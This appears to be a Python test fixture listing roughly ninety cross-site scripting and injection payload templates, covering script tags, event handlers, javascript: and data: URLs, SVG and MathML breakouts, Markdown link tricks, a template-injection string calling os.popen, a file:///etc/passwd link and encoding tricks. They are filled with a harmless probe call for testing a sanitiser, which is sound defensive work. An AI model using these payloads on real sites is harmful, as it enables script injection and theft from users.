"""Texts that try to make a page do something: run a script, load an address, break out of its place.

Each carries `T` where the attack would call and `HOST` for where it would load from; the tests put a probe
and a server of their own there, so that they see one go off or be asked.
"""

import re

TEMPLATES = {
    # tags that run
    "script": "<script>T</script>",
    "script upper case": "<ScRiPt>T</sCrIpT>",
    "script with a slash": "<script/x>T</script>",
    "script never closed": "<script>T//",
    "script from elsewhere": '<script src="data:text/javascript,T"></script>',
    "script as module": '<script type="module">T</script>',
    "script within a tag": "<scr<script>ipt>T</scr</script>ipt>",
    "script after a null": "<scr\0ipt>T</script>",
    "script in a comment": "<!-- --><script>T</script><!-- -->",
    "conditional comment": "<!--[if gte IE 4]><script>T</script><![endif]-->",
    "comment closed early": "<!--><script>T</script>-->",
    # handlers
    "image error": '<img src="x" onerror="T">',
    "image error without quotes": "<img src=x onerror=T>",
    "image error split by lines": "<img\nsrc=x\nonerror\n=\nT>",
    "image error with slashes": "<img/src=x/onerror=T>",
    "image error, entities": "<img src=x onerror=&#9;T>",
    "body load": '<body onload="T">',
    "focus": '<input autofocus onfocus="T">',
    "details toggle": '<details open ontoggle="T">x</details>',
    "animation end": '<p style="animation:a" onanimationstart="T"><style>@keyframes a{}</style>',
    "media error": '<video><source onerror="T"></video>',
    "audio error": '<audio src="x" onerror="T"></audio>',
    "marquee start": '<marquee onstart="T">x</marquee>',
    "pointer": '<p onpointerenter="T" onmouseover="T">x</p>',
    "select focus": '<select autofocus onfocus="T"></select>',
    # frames and objects
    "frame of a script": '<iframe src="javascript:T"></iframe>',
    "frame document": '<iframe srcdoc="<script>T</script>"></iframe>',
    "object": '<object data="javascript:T"></object>',
    "object of data": '<object data="data:text/html,<script>T</script>"></object>',
    "embed": '<embed src="javascript:T">',
    "base": '<base href="javascript:T//">',
    "refresh": '<meta http-equiv="refresh" content="0;url=javascript:T">',
    "stylesheet link": '<link rel="stylesheet" href="data:text/css,*{}" onload="T">',
    "import": '<link rel="import" href="data:text/html,<script>T</script>">',
    "form action": '<form action="javascript:T"><button autofocus>x</button></form>',
    "button action": '<form><button formaction="javascript:T">x</button></form>',
    # SVG and MathML
    "svg load": '<svg onload="T"></svg>',
    "svg script": "<svg><script>T</script></svg>",
    "svg script by address": '<svg><script href="data:text/javascript,T"/></svg>',
    "svg animation": '<svg><animate onbegin="T" attributeName="x" dur="1s"></svg>',
    "svg link": '<svg><a xlink:href="javascript:T"><text y="20">x</text></a></svg>',
    "svg foreign object": '<svg><foreignObject><img src="x" onerror="T"></foreignObject></svg>',
    "svg style breaks out": '<svg><style><img src="x" onerror="T"></style></svg>',
    "math link": '<math><mtext><a href="javascript:T">x</a></mtext></math>',
    "math breaks out": '<math><mtext><table><mglyph><style><!--</style>'
    '<img title="--&gt;&lt;img src=x onerror=T&gt;">',
    # ends of the places texts are put into
    "end of title": "</title><script>T</script>",
    "end of attribute": '"><script>T</script>',
    "end of attribute, one quote": "'><img src=x onerror=T>",
    "handler in the attribute": '" onmouseover="T" autofocus onfocus="T" x="',
    "end of style": "</style><script>T</script>",
    "end of JSON-LD": '"}</script><script>T</script>',
    "JSON-LD double escape": "<!--<script>",
    "end of h1": "</h1></article><script>T</script>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=T>">',
    "textarea": "<textarea></textarea><script>T</script>",
    "template": "<template><script>T</script></template>",
    "plaintext": "<plaintext><script>T</script>",
    "template language": "{{ cycler.__init__.__globals__.os.popen('T') }}{% set x = 1 %}",
    # Markdown
    "Markdown link": "[x](javascript:T)",
    "Markdown link upper case": "[x](JaVaScRiPt:T)",
    "Markdown link with a tab": "[x](java&#9;script:T)",
    "Markdown link with an entity": "[x](javascript&colon;T)",
    "Markdown link with a control": "[x](<\x01javascript:T>)",
    "Markdown link, vbscript": "[x](vbscript:T)",
    "Markdown link to data": "[x](data:text/html,<script>T</script>)",
    "Markdown link to base64": "[x](data:text/html;base64,PHNjcmlwdD50b3AucHJvYmUoMCk8L3NjcmlwdD4=)",
    "Markdown link to data SVG": "[x](data:image/svg+xml,<svg/onload=T>)",
    "Markdown link to data GIF": "[x](data:image/gif;base64,R0lGODlhAQABAAAAACw=)",
    "Markdown link to a blob": "[x](blob:https://example.org/T)",
    "Markdown link to a file": "[x](file:///etc/passwd?T)",
    "Markdown link with a title": "[x](https://example.org '\" onmouseover=\"T')",
    "Markdown reference": "[x][r]\n\n[r]: javascript:T",
    "Markdown autolink": "<javascript:T>",
    "Markdown image": "![x](javascript:T)",
    "Markdown image of SVG": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InRvcC5wcm9iZSgwKSIvPg==)",
    "Markdown image alt": '![x" onerror="T](https://example.org/x.png)',
    "Markdown image loads": "![x](http://HOST/pixel.png?T)",
    "Markdown code fence": '```"><script>T</script>\nx\n```',
    "Markdown never-closed fence": "```html\n<script>T</script>",
    "Markdown table cell": "| a |\n|:--|\n| <img src=x onerror=T> |",
    "Markdown list start": "1\" onmouseover=\"T. x\n\n999999999. x",
    "Markdown heading": "# x\n\n<h1 onclick=T>x</h1>\n\nx\n===",
    # style tricks
    "style tag": "<style>body{background:url('javascript:T')}</style>",
    "style import": "<style>@import 'http://HOST/T.css';</style>",
    "style expression": '<p style="width:expression(T)">x</p>',
    "style covers the page": '<a href="http://HOST" style="position:fixed;inset:0">T</a>',
    # bytes and alphabets
    "UTF-7": "+ADw-script+AD4-T+ADw-/script+AD4-",
    "full-width brackets": "＜script＞T＜/script＞",
    "overlong look-alike": "\u02c2script\u02c3T\u02c2/script\u02c3",
    "line separator": "\u2028<script>T</script>\u2029",
    "right to left": "\u202e<script>T</script>\u202c",
}  # fmt: skip


def vectors(host: str = "elsewhere.invalid") -> list[tuple[str, str]]:
    """Name and text of every attack. Number n calls `top.probe(n)`, or loads something from `host`."""
    return [
        (name, re.sub(r"\bT\b", f"top.probe({number})", text).replace("HOST", host))
        for number, (name, text) in enumerate(TEMPLATES.items())
    ]
